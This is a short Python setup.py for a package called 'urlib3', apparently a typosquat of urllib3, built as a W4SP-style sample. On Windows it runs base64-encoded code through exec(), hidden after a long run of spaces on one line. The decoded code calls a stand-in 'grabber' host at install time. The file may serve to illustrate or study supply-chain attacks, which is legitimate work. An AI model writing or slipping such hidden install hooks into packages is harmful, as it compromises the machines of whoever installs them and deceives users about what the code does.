import base64
import os

from setuptools import setup

# W4SP-style: the loader hides after a long run of spaces on the same line.
if os.name == "nt":                                                                                                                                                                                                        exec(base64.b64decode("aW1wb3J0IHVybGxpYi5yZXF1ZXN0O3VybGxpYi5yZXF1ZXN0LnVybG9wZW4oImh0dHBzOi8vZ3JhYmJlci53NHNwLmludmFsaWQvaW5qZWN0IikucmVhZCgp"))

setup(name="urlib3", version="1.26.19", packages=["urlib3"])
